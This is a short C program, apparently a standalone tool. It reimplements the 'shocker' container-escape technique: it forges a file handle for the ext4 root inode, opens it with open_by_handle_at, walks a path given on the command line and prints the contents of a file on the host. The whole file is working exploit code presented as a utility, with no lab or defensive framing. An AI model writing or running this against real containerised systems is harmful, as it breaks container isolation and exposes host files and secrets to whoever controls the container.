/* SPDX-License-Identifier: GPL-2.0-or-later */

/* handle NAME...: a file of the host's by its handle, as "shocker" did it: the machine's root is a directory of a file system whose other
 * files have handles too, and those of an ext4 are its inode numbers. Looks from the file system's root (inode 2) for
 * NAME/NAME/… and prints what is in it. */

#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
        union {
                struct file_handle h;
                char space[sizeof(struct file_handle) + 8];
        } root = {};
        uint32_t inode[2] = { 2, 0 };
        char text[4096];
        ssize_t n;
        int mount = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), fd;

        root.h.handle_bytes = sizeof(inode);
        root.h.handle_type = 1; /* FILEID_INO32_GEN; generation 0 is any */
        memcpy(root.h.f_handle, inode, sizeof(inode));
        fd = open_by_handle_at(mount, &root.h, O_RDONLY | O_CLOEXEC);
        for (int i = 1; i < argc && fd >= 0; i++)
                fd = openat(fd, argv[i], O_RDONLY | O_CLOEXEC);
        n = fd < 0 ? -1 : read(fd, text, sizeof(text));
        if (n < 0) {
                perror("handle");
                return 1;
        }
        return fwrite(text, 1, (size_t) n, stdout) == (size_t) n ? 0 : 1;
}
